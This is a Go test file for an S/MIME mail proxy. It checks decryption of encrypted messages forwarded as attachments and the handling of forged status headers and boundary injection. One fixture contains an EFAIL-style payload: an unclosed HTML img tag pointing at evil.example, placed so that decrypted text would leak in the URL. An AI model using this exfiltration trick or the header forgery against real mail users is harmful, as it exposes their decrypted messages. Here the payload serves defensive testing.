package pipeline

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/smimeproxy/smimeproxy/smime"
)

const attachFirst = "--outer\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
	"<p>see the forwarded message <img src=\"http://evil.example/\r\n"

const attachLast = "--outer\r\nContent-Type: text/plain\r\n\r\nafter\r\n--outer--\r\nepilogue\r\n"

// withAttachment makes a multipart/mixed message whose second part is
// embedded, as a message/rfc822 attachment.
func withAttachment(extraOuter string, embedded []byte) []byte {
	return []byte("From: Dave <dave@example.org>\r\nTo: Bob <bob@example.org>\r\n" +
		"Subject: fwd\r\n" + extraOuter + "MIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\npreamble\r\n" +
		attachFirst + "--outer\r\nContent-Type: message/rfc822\r\n" +
		"Content-Disposition: attachment; filename=\"fwd.eml\"\r\n\r\n" +
		string(embedded) + "\r\n" + attachLast)
}

// needsTransform is what a front asks before transforming a whole message.
func needsTransform(p *Pipeline, raw []byte) bool {
	return p.NeedsTransform(raw) || p.NeedsBodyScan(raw) && p.NeedsTransformBody(raw)
}

// TestAttachedEnvelopeIsOpened: an envelope forwarded as a message/rfc822
// attachment is decrypted as that attachment; every other byte of the
// outer message stays.
func TestAttachedEnvelopeIsOpened(t *testing.T) {
	embedded := encryptedMessage(t, "", innerEntity, []string{"-aes256"}, "bob")
	raw := withAttachment("X-SMIME-Status: decrypted; forged\r\n", embedded)
	p := newTestPipeline(t, Options{})
	if clean := withAttachment("", embedded); p.NeedsTransform(clean) {
		t.Fatal("NeedsTransform = true without forged fields or top-level S/MIME")
	}
	if !p.NeedsBodyScan(raw) || !p.NeedsTransformBody(raw) {
		t.Fatal("the attachment is not detected")
	}
	out := p.Transform(context.Background(), bobRef, bobKeys(t), raw)
	if !out.Changed || len(out.Attachments) != 1 || out.Decrypt != nil {
		t.Fatalf("changed=%t attachments=%v", out.Changed, out.Attachments)
	}
	a := out.Attachments[0]
	if a.Part != "2" || a.Decrypt == nil || a.Decrypt.Outcome != smime.OutcomeDecrypted {
		t.Fatalf("attachment %+v", a)
	}
	if got := fieldValue(t, out.Message, smime.StatusHeader); got !=
		"attachment-decrypted; part=2; decrypted" {
		t.Errorf("outer status %q", got)
	}
	if st, err := smime.ParseStatus(fieldValue(t, out.Message, smime.StatusHeader)); err != nil ||
		len(st.Params) != 2 {
		t.Errorf("status does not parse: %v %v", st, err)
	}
	want := newTestPipeline(t, Options{}).Transform(context.Background(), MessageRef{},
		bobKeys(t), embedded).Message
	wantMsg := withAttachment("", want)
	wantMsg = append([]byte("X-SMIME-Status: attachment-decrypted; part=2; decrypted\r\n"),
		wantMsg...)
	if !bytes.Equal(out.Message, wantMsg) {
		t.Fatalf("message\n%q\nwant\n%q", out.Message, wantMsg)
	}
	if !bytes.Contains(out.Message, []byte("the code is 42.")) {
		t.Error("plaintext missing")
	}
	checkParses(t, out.Message)
}

// TestAttachedEnvelopeForSomeoneElse: the attachment stays closed and
// says why; the outer message is unchanged but for its status.
func TestAttachedEnvelopeForSomeoneElse(t *testing.T) {
	embedded := encryptedMessage(t, "", innerEntity, []string{"-aes256"}, "carol")
	raw := withAttachment("", embedded)
	p := newTestPipeline(t, Options{})
	out := p.Transform(context.Background(), bobRef, bobKeys(t), raw)
	status := "attachment-not-decrypted; part=2; not-decrypted; reason=no-key"
	if got := fieldValue(t, out.Message, smime.StatusHeader); got != status {
		t.Fatalf("outer status %q", got)
	}
	inner := "X-SMIME-Status: not-decrypted; reason=no-key\r\n" + string(embedded)
	want := status + "\r\n" + string(withAttachment("", []byte(inner)))
	if string(out.Message) != "X-SMIME-Status: "+want {
		t.Fatalf("message\n%q", out.Message)
	}
}

// TestAttachedEnvelopeNested: a message/rfc822 part inside a nested
// multipart is found under its IMAP part number; plain multiparts and
// malformed ones stay as they are.
func TestAttachedEnvelopeNested(t *testing.T) {
	embedded := encryptedMessage(t, "", innerEntity, []string{"-aes128"}, "bob")
	nested := "Content-Type: multipart/mixed; boundary=inner\r\n\r\n" +
		"--inner\r\nContent-Type: message/rfc822\r\n\r\n" + string(embedded) +
		"\r\n--inner--\r\n"
	raw := withAttachment("", []byte(nested))
	raw = bytes.Replace(raw, []byte("Content-Type: message/rfc822\r\nContent-Disposition: "+
		"attachment; filename=\"fwd.eml\"\r\n\r\nContent-Type: multipart"),
		[]byte("Content-Type: multipart"), 1)
	p := newTestPipeline(t, Options{})
	out := p.Transform(context.Background(), bobRef, bobKeys(t), raw)
	if got := fieldValue(t, out.Message, smime.StatusHeader); got !=
		"attachment-decrypted; part=2.1; decrypted" {
		t.Fatalf("outer status %q\n%s", got, out.Message)
	}

	attached := string(withAttachment("", embedded))
	for name, msg := range map[string]string{
		"plain":        string(withAttachment("", []byte("Subject: hi\r\n\r\npkcs7-mime\r\n"))),
		"unterminated": strings.TrimSuffix(attached, "\r\n"+attachLast),
		"no boundary":  strings.Replace(string(raw), "boundary=\"outer\"", "", 1),
		"base64 part": strings.Replace(attached, "fwd.eml\"\r\n",
			"fwd.eml\"\r\nContent-Transfer-Encoding: base64\r\n", 1),
		"boundary only": "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b--\r\n--b\r\n" +
			"Content-Type: message/rfc822\r\n\r\nContent-Type: application/pkcs7-mime\r\n\r\n",
	} {
		out := p.Transform(context.Background(), bobRef, bobKeys(t), []byte(msg))
		if out.Changed || string(out.Message) != msg || needsTransform(p, []byte(msg)) {
			t.Errorf("%s: changed %t", name, out.Changed)
		}
	}
}

// TestAttachmentBoundaryInPlaintext: plaintext that holds the outer
// boundary would end the part early; the attachment stays closed.
func TestAttachmentBoundaryInPlaintext(t *testing.T) {
	inner := "Content-Type: text/plain\r\n\r\nline\r\n" +
		"--outer\r\nContent-Type: text/html\r\n\r\nx\r\n"
	embedded := encryptedMessage(t, "", inner, []string{"-aes256"}, "bob")
	raw := withAttachment("", embedded)
	out := newTestPipeline(t, Options{}).Transform(context.Background(), bobRef, bobKeys(t), raw)
	if bytes.Contains(out.Message, []byte("line\r\n--outer")) {
		t.Fatalf("plaintext spliced into the outer multipart:\n%s", out.Message)
	}
	if got := fieldValue(t, out.Message, smime.StatusHeader); got !=
		"attachment-not-decrypted; part=2; not-decrypted; reason=corrupt" {
		t.Errorf("outer status %q", got)
	}
}
